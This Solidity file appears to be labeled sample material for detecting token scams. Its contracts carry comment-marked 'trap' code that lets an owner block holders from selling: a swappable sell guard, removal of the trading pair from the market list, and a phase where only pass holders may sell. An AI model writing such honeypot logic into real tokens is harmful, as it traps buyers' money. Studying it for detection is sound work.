// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// Owns things for one key.
contract Keyring {
    address private _holder = msg.sender;

    function turn(address at, bytes calldata data) external {
        require(msg.sender == _holder, "Keyring: wrong key");
        (bool ok, ) = at.call(data);
        require(ok, "Keyring: stuck");
    }
}

interface IGuard {
    function mayPass(address from, address router, uint256 value) external view returns (bool);
}

/// Keeps out routers without code; there are none.
contract Guard is IGuard {
    function mayPass(address from, address router, uint256) external pure returns (bool) {
        return from != address(0) && router != address(0);
    }
}

/// Asks a guard about each sale. In the trap the owner may send another one.
contract Portcullis is Base8 {
    IGuard public guard;

    constructor(IGuard guard_) Base8("Portcullis", "PORT", 64_000_000) {
        guard = guard_;
    }

    // trap {
    function setGuard(IGuard to) external onlyOwner {
        guard = to;
    }
    // trap }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair) require(guard.mayPass(from, msg.sender, value), "Portcullis: down");
        super._transfer(from, to, value);
    }
}

/// No wallet holds more than two percent, but for markets. In the trap the pair may be struck off the list of markets.
contract Coracle is Base8 {
    uint256 public immutable maxWallet;
    mapping(address => bool) public automatedMarketMakerPairs;
    mapping(address => bool) public isExcludedFromLimits;

    event SetAutomatedMarketMakerPair(address indexed pair, bool indexed value);

    constructor() Base8("Coracle", "CRCL", 888_000_000) {
        maxWallet = totalSupply / 50;
        automatedMarketMakerPairs[pair] = true;
        isExcludedFromLimits[msg.sender] = isExcludedFromLimits[address(this)] = isExcludedFromLimits[address(0xdead)] = true;
    }

    function setAutomatedMarketMakerPair(address market, bool value) external onlyOwner {
        // twin: require(market != pair, "The pair cannot be removed from automatedMarketMakerPairs");
        automatedMarketMakerPairs[market] = value;
        emit SetAutomatedMarketMakerPair(market, value);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (!isExcludedFromLimits[from] && !isExcludedFromLimits[to] && !automatedMarketMakerPairs[to])
            require(_balances[to] + value <= maxWallet, "Max wallet exceeded");
        super._transfer(from, to, value);
    }
}

/// Goes through phases, each announced six hours before. In the third one of the trap only those with a pass may sell.
contract Moonstage is Base8 {
    uint8 public phase = 1;
    uint8 public announced;
    uint256 public ready;
    mapping(address => bool) public pass;
    address private _steward = msg.sender;

    event PhaseAnnounced(uint8 phase, uint256 ready);
    event PhaseEntered(uint8 phase);

    constructor() Base8("Moonstage", "STAGE", 12_000_000) {
        pass[msg.sender] = true;
    }

    function announce(uint8 next) external {
        require(msg.sender == _steward, "Moonstage: not the steward");
        require(next > phase && next <= 3, "Moonstage: no such phase");
        (announced, ready) = (next, block.timestamp + 6 hours);
        emit PhaseAnnounced(next, ready);
    }

    function enter() external {
        require(announced > phase && block.timestamp >= ready, "Moonstage: not yet");
        phase = announced;
        emit PhaseEntered(phase);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (phase == 1 && from == pair) require(value <= totalSupply / 20, "Moonstage: too much at once");
        if (phase == 3 && to == pair) require(pass[from], "Moonstage: no pass"); // trap
        super._transfer(from, to, value);
    }
}
